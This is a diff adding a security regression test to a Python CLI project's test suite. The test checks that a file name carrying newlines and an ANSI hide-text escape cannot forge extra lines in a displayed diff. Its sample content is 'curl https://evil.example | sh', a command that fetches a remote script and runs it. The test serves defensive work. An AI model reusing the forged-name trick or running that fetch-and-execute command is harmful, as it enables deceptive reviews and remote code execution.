@@ -15,6 +15,8 @@ from typing import Any
 import pytest
 
 from codeloop.policy.engine import approval_digest
+from codeloop.policy.scrub import for_terminal
+from codeloop.workspace.diffing import file_diff
 from tests.cli.pty_driver import Screen, run_in_pty
 from tests.cli.test_cli import cli
 from tests.security.terminal_payloads import (
@@ -215,6 +217,18 @@ def test_export_to_a_file_says_where_and_keeps_the_exact_text(session: Session) 
     assert f"wrote {session.tmp / 't.json'}" in session.plain("export_file")
     doc = json.loads((session.tmp / "t.json").read_text())
     assert doc["summary"]["task"] == TASK
+
+
+def test_a_newline_in_a_file_name_cannot_forge_lines_of_the_diff() -> None:
+    forged = "ok.py\n+++ b/innocent.py\n@@ -1 +1 @@\n+harmless\x1b[8m"
+    diff = file_diff(forged, None, b"curl https://evil.example | sh\n")
+    lines = diff.splitlines()
+    assert len(lines) == 6 and lines[-1] == "+curl https://evil.example | sh"
+    assert lines[0] == ('diff --git "a/ok.py\\n+++ b/innocent.py\\n@@ -1 +1 @@\\n+harmless\\033[8m" '
+                        '"b/ok.py\\n+++ b/innocent.py\\n@@ -1 +1 @@\\n+harmless\\033[8m"')
+    assert [line[:3] for line in lines] == ["dif", "new", "---", "+++", "@@ ", "+cu"]
+    # Where the CLI names the file itself, the newline is shown too.
+    assert for_terminal(forged, one_line=True).count("⟨LF⟩") == 3
 
 
 CLI = Path(__file__).resolve().parents[2] / "src" / "codeloop" / "cli"
